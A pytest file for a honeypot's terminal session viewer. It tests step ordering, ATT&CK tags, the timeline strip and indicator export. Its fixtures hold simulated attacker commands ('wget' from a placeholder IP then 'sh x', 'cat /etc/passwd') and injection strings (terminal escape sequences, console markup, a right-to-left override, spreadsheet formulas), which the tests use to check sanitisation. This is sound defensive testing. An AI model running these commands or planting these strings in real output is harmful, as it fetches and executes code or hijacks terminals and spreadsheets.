"""The page of a session without a screen: steps in order with their tags, the strip, why a step is tagged, indicators."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from decnet.db.rows.session import SessionRows
from decnet_tui.model import iocs
from decnet_tui.model.feed import Feed
from decnet_tui.model.iocs import Indicators, copied, csv_text, text_lines
from decnet_tui.model.session_page import (
    client_line,
    evidence_of,
    like_lines,
    login_text,
    next_line,
    shown,
    verdict_line,
    where_line,
    who_line,
)
from decnet_tui.model.steps import steps_of, strip_of
from decnet_tui.model.tag_text import rests_on, underlined
from decnet_tui.model.whereabouts import Whereabouts
from decnet_tui.screens.session import Read, SessionLevel
from tests.consolekit import use_usual_keys

T = 1_796_000_000.0
SHA = "94f2e4d8" * 8
HOSTILE = "\x1b]52;c;x\x07[@click=app.quit]\u202e"


def at(seconds: float) -> datetime:
    return datetime.fromtimestamp(T + seconds, UTC)


def tag(source: str, technique: str = "T1105", tactic: str = "TA0011", **more: Any) -> Any:
    row = {
        "uuid": f"{source}{technique}{more.get('confidence', '')}", "source_kind": "command", "source_id": source, "tactic": tactic,
        "technique_id": technique, "sub_technique_id": None, "confidence": 0.8, "rule_id": "R1", "evidence": {"matched": "wget"},
    }  # fmt: skip
    return {**row, **more}


def session(**more: Any) -> SessionRows:
    """A session of two commands; ``payload`` and others as keys."""
    payload = {
        "session_id": "s", "attacker_uuid": "a", "attacker_ip": "192.0.2.1", "decky_id": "web-07", "service": "ssh",
        "protocol": "ssh", "sensor_session": "own", "started_at": T, "ended_at": T + 100, "end_reason": "closed",
        "duration_s": 100.0, "command_count": 2, "client": None, "auth": None, "keystrokes_ref": None, "downloads": None,
        "uploads": None, "forwards": None, "inputs": None, "exploits": None, "joined": None, "extras": None, "part": 1, "parts": 1,
        "commands": [{"id": "c0", "command_text": "wget http://203.0.113.9/x", "ts": T + 10}, {"id": "c1", "command_text": "sh x", "ts": T + 12}],
        **more.pop("payload", {}),
    }  # fmt: skip
    told = {
        "story": None,
        "story_line": None,
        "severity": None,
        "severity_reason": None,
        "playbook": None,
        **more.pop("told", {}),
    }
    alike = {"playbook_before": 0, "playbook_sources": 0, "files": {}, "shared": [], **more.pop("alike", {})}
    known: dict[str, Any] = {
        "tags": [], "first_times": {}, "services": [], "recording": None, "attempts": [], "identity": None, "addresses": 1,
        "new": False, "place": 1, "of": 1, "hosts": [], "baits": [],
    }  # fmt: skip
    return SessionRows(payload=payload, told=told, alike=alike, **{**known, **more})  # type: ignore[arg-type]


def attempt(login: str, success: bool, seconds: float) -> Any:
    return {
        "login": login,
        "username": "root",
        "secret_kind": "password",
        "success": success,
        "at": at(seconds),
    }


def whats(rows: SessionRows) -> list[tuple[str, str]]:
    return [(step["stage"], step["what"]) for step in steps_of(rows)]


def test_steps_are_in_order_of_time_whatever_they_are() -> None:
    rows = session(
        payload={
            "auth": {"fail_count": 1, "success": True},
            "uploads": [{"filename": "sshd", "sha256": SHA, "ts": T + 5}],
            "downloads": [{"url": "http://203.0.113.9/x", "sha256": "cd" * 32, "ts": T + 11}, {"url": "http://h/y", "failed": True, "ts": T + 12.5}],
            "forwards": [{"host": "10.0.0.1", "port": 25, "ts": T + 30}],
            "exploits": [{"cve": "CVE-2024-1", "success": True, "ts": T + 1}],
            "inputs": [{"text": "hi", "realm": "passwd"}],
        },
        attempts=[attempt("root/#1", False, 2), attempt("root/#2", True, 3)],
        alike={"files": {SHA: 0, "cd" * 32: 2}},
    )  # fmt: skip
    assert whats(rows) == [
        ("IN", "exploit CVE-2024-1 worked"),
        ("", "login root/#1 refused"),
        ("IN", "login root/#2, try 2 ok"),
        ("DROP", "put sshd  94f2e4d894f2  new file"),
        ("", "wget http://203.0.113.9/x"),
        ("FETCH", "fetch http://203.0.113.9/x  cdcdcdcdcdcd  in 2 other sessions"),
        ("", "sh x"),
        ("FETCH", "fetch http://h/y  FAILED"),
        ("TUNNEL", "tunnel to 10.0.0.1:25"),
        ("", "typed into passwd: hi"),
        ("END", "closed"),
    ]
    assert [step["at"] for step in steps_of(rows)][:3] == [1.0, 2.0, 3.0]


def test_many_refused_log_ins_are_three_steps_and_one_more() -> None:
    rows = session(
        payload={"auth": {"fail_count": 9}}, attempts=[attempt(f"root/#{n}", False, n) for n in range(5)]
    )
    said = [what for _, what in whats(rows)]
    assert said[:4] == [
        "login root/#0 refused",
        "login root/#1 refused",
        "login root/#2 refused",
        "6 more log-ins refused",
    ]
    three = session(
        payload={"auth": {"fail_count": 3}}, attempts=[attempt(f"root/#{n}", False, n) for n in range(3)]
    )
    assert not any("more" in what for _, what in whats(three))
    assert ("IN", "logged in") in whats(session(payload={"auth": {"success": True}}))


def test_each_tag_stands_at_what_it_is_about_the_surest_first() -> None:
    rows = session(
        payload={
            "uploads": [{"filename": "sshd", "sha256": SHA.upper()}], "forwards": [{"host": "H.example", "port": 80}],
            "joined": [{"id": "j1", "command_text": "wget x", "lines": ["c0", "c1"]}],
        },
        attempts=[attempt("root/#2", True, 3)],
        tags=[
            tag("c1", "T1059", "TA0002", confidence=0.5), tag("c1", "T1204", "TA0002", confidence=0.9),
            tag(f"s#upload#{SHA}", source_kind="payload"), tag("s#forward#h.example:80", "T1090", source_kind="payload"),
            tag("cred", "T1078", "TA0001", source_kind="credential"), tag("s", "T1110", "TA0006", source_kind="session"), tag("j1"),
        ],
    )  # fmt: skip
    by_kind = {step["kind"]: step["techniques"] for step in steps_of(rows)}
    assert by_kind == {
        "login": ["T1078"], "uploads": ["T1105"], "forwards": ["T1090"], "session": ["T1110"], "end": [],
        "command": ["T1204", "T1059"],
    }  # fmt: skip
    assert next(s for s in steps_of(rows) if s["key"] == "c0")["techniques"] == ["T1105"], (
        "told over several lines"
    )
    assert [s["line"] for s in steps_of(rows) if s["kind"] == "command"] == [1, 2]


def test_a_line_has_the_stage_that_its_story_says() -> None:
    story = [
        {"phase": "deliver", "from": 1, "to": 1, "stages": {"fetch": 1, "run": 1}}, {"phase": "clean", "from": 2, "to": 2, "stages": {"clean": 1}},
    ]  # fmt: skip
    rows = session(told={"story": story}, tags=[tag("c0", "T1105"), tag("c1", "T1059", "TA0002")])
    assert [s["stage"] for s in steps_of(rows) if s["kind"] == "command"] == ["FETCH", "CLEAN"]
    assert [
        s["stage"] for s in steps_of(session(tags=[tag("c1", "T1059", "TA0002")])) if s["kind"] == "command"
    ] == ["", "RUN"]


def test_the_strip_has_the_stages_at_their_time_and_long_silence() -> None:
    def step(seconds: float, stage: str) -> Any:
        return {"at": seconds, "stage": stage}

    steps = [step(0, "IN"), step(90, "DROP"), step(91, "RUN"), step(100, "END")]
    assert strip_of(steps, 100.0, 40) == "IN----------------IDLE-----DROP-RUN-END-"
    assert strip_of(steps, 100.0, 16) == "IN-DROP-RUN-END-", "silence gives way first"
    assert len(strip_of(steps, 100.0, 9)) == 9
    assert strip_of([step(0, "IN"), step(5, "IN")], 100.0, 40) == "", "one stage needs no strip"
    assert "IDLE" not in strip_of([step(0, "IN"), step(29, "RUN")], 40.0, 40)
    assert "IDLE" in strip_of([step(0, "IN"), step(30, "RUN")], 40.0, 40)


def test_what_matched_is_marked_below_the_command_also_far_behind() -> None:
    text = "x" * 100 + "wget http://h/" + "y" * 100
    found = tag("c0", evidence={"matched": "wget http://h/"})
    shown, under = underlined(found, text, 60)
    place = shown.index("wget")
    assert (len(shown), under) == (60, " " * place + "~" * len("wget http://h/"))
    assert underlined(tag("c0", evidence={"matched": "uploaded"}), "sh x", 60) == ("uploaded", "")
    assert rests_on(tag("c0", evidence={"because": "fetched by line 2: wget x"})) == (
        "fetched by line 2: wget x",
        2,
    )
    assert rests_on(tag("c0", evidence={"because": "the sensor saw x come"}))[1] is None
    assert rests_on(tag("c0", evidence=None)) == ("", None)


def test_the_lines_above_say_whose_when_how_and_how_bad() -> None:
    rows = session(
        payload={
            "client": {"version": f"SSH-2.0-Go{HOSTILE}", "hassh": "98ddc560" * 4}, "auth": {"fail_count": 2, "success": True},
            "commands_dropped": 1, "items_dropped": 3,
        },
        told={"severity": "high", "severity_reason": f"ran {HOSTILE}", "playbook": "pb-1"},
        attempts=[attempt("root/#1", True, 3)], identity="i" * 36, addresses=3, new=True, place=2, of=9,
        alike={"playbook_before": 1, "playbook_sources": 2, "shared": [{"family": "client", "value": "v", "addresses": 4},
                                                                    {"family": "sha256", "value": "w", "addresses": 1}]},
        first_times={"hashes": [SHA]},
    )  # fmt: skip
    assert who_line(rows, "KE AS1", new=True) == "192.0.2.1  i-iiiiiiii  3 addresses  KE AS1  NEW"
    where = where_line(rows)
    assert where.startswith("web-07 ssh  11-30 00:53:20Z +1m40s")
    assert where.endswith("  session 2 of 9  its own id own  1 command found no room  3 items found no room")
    assert "hassh 98ddc56  (at 4 other addresses)  login root/#1, try 3 ok" in client_line(rows)
    assert verdict_line(rows).startswith("HIGH: ran ")
    assert like_lines(rows) == [
        "like it  pb-1: 1 session before of 2 other sources; sha256 w at 1 other address; client v at 4 other addresses",
        "first time ever: hash 94f2e4d8",
    ]
    assert not any(c in text for text in (client_line(rows), verdict_line(rows)) for c in "\x1b\x07\u202e")
    assert (login_text(session()), like_lines(session())) == ("none", ["like it  nothing"])
    assert verdict_line(session()).startswith("not judged yet")


def test_the_page_before_it_is_read_acts_on_nobody_and_afterwards_on_its_own() -> None:
    page = SessionLevel(Feed(), "s")
    assert (page.actor(), page.mark(), page.records()) == (None, "", [])
    assert page.indicators_of().session == "s"  # type: ignore[union-attr]
    page.load(Read(session(told={"playbook": "pb-1"}), Whereabouts(None)))
    assert page.actor().label == "192.0.2.1"  # type: ignore[union-attr]
    assert page.mark() == "a pb-1"
    page.load(Read(None, Whereabouts(None)))
    assert page.empty(80) == ["No session s is stored."]


def test_below_the_steps_stands_what_there_is_room_for() -> None:
    page = SessionLevel(Feed(), "s")
    page.load(Read(session(tags=[tag("c0")], hosts=["203.0.113.9"]), Whereabouts(None)))
    whole = ["".join(text for text, _ in line) for line in page.outro(80, 20)]
    assert whole[1].startswith(" why T1105 Ingress Tool Transfer, Command and Control   R1 0.80")
    assert whole[3].startswith("   ~~~~ matched here")
    assert whole[4].startswith(" IOCs of this session: 4")
    assert whole[-1] == " like it  nothing"
    for room in range(12):
        assert len(page.outro(80, room)) <= room
    assert [line[0][0] for line in page.outro(80, 5)][-1] == " like it  nothing"


@pytest.mark.parametrize(("known", "said"), [(None, ": play"), (True, ": play"), (False, "no recording")])
def test_before_a_session_is_read_nobody_says_that_it_has_no_recording(known: bool | None, said: str) -> None:
    page = SessionLevel(Feed(), "s1")
    page.has_recording = known
    assert page.about().endswith(said)


# --- indicators


def found(*sessions: SessionRows) -> list[Any]:
    own = Indicators()
    for rows in sessions:
        own.add(evidence_of(rows))
    return own.rows()


def test_indicators_are_what_others_can_look_for_each_once() -> None:
    rows = session(
        payload={
            "uploads": [{"filename": "sshd", "sha256": SHA.upper()}], "downloads": [{"url": "http://203.0.113.9/x", "sha256": "cd" * 32}],
            "commands": [
                {"id": "c0", "command_text": "cd /tmp; wget http://203.0.113.9/x", "ts": T}, {"id": "c1", "command_text": "sh x; curl http://127.0.0.1/a http://10.0.0.7/b", "ts": T},
                {"id": "c2", "command_text": "ls /etc; cat /etc/passwd", "ts": T},
            ],
        },
        attempts=[attempt("root/#1", False, 1), attempt("root/#2", True, 2)], hosts=["bot.example", "localhost"],
    )  # fmt: skip
    told = found(rows, session(payload={"session_id": "t", "attacker_ip": "192.0.2.2", "started_at": T - 5}))
    assert [(one["kind"], one["value"]) for one in told] == [
        ("ip", "192.0.2.1"), ("ip", "192.0.2.2"), ("sha256", SHA), ("sha256", "cd" * 32), ("url", "http://203.0.113.9/x"),
        ("host", "203.0.113.9"), ("host", "bot.example"), ("path", "/root/x"), ("path", "/tmp/x"), ("path", "sshd"), ("cred", "root/#2"),
    ]  # fmt: skip
    url = next(one for one in told if one["kind"] == "url")
    assert (url["sessions"], url["sources"], url["session_id"]) == (2, ["192.0.2.1", "192.0.2.2"], "t")
    assert (url["first"], url["last"]) == (at(-5), at(0))
    assert next(one for one in told if one["value"] == SHA)["name"] == "sshd"
    assert next(text_lines(told)) == "ip      192.0.2.1"
    assert copied(told).splitlines()[2] == f"sha256 {SHA}"


def test_indicators_hold_nothing_that_a_terminal_or_a_spreadsheet_obeys() -> None:
    rows = session(
        payload={"commands": [{"id": "c0", "command_text": f"wget http://h.example/{HOSTILE}x", "ts": T}], "uploads": [{"filename": "=cmd()", "sha256": SHA}]},
        attempts=[attempt("=1+1/#2", True, 2), attempt(f"{HOSTILE}/#3", True, 2)],
    )  # fmt: skip
    told = found(rows)
    for text in ("\n".join(text_lines(told)), copied(told), csv_text(told)):
        assert not any(c in text for c in "\x1b\x07\u202e")
    cells = [cell for line in csv.reader(io.StringIO(csv_text(told))) for cell in line]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'=1+1/#2" in cells


def test_so_many_indicators_are_kept_and_the_rest_is_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(iocs, "MOST", 3)
    own = Indicators()
    own.add(evidence_of(session(hosts=[])))
    assert (len(own.rows()), own.left_out) == (3, 1), "address, URL, host; the path is beyond"
    own.add(evidence_of(session(payload={"session_id": "t"})))
    assert own.rows()[0]["sessions"] == 2, "what is known is counted on"


def test_what_to_do_next_is_said_of_what_is_bad_or_new_and_of_nothing_else() -> None:
    use_usual_keys()
    assert next_line(session(first_times={"hashes": [SHA]})).startswith(
        "next: look the new file up elsewhere (d: its hash)"
    )
    told = session().told
    for severity, said in (
        ("critical", True),
        ("high", True),
        ("medium", False),
        ("low", False),
        (None, False),
    ):
        line = next_line(session(told={**told, "severity": severity}))
        assert bool(line) is said
        assert len(line) <= 78


def test_moments_of_a_session_are_shown_as_such() -> None:
    for name in ("connected_at", "started_at", "ended_at", "ts"):
        assert shown(name, 1_794_871_476.46) == "2026-11-16 23:24:36Z", name
    assert shown("duration_s", 0.72) == "0.72"
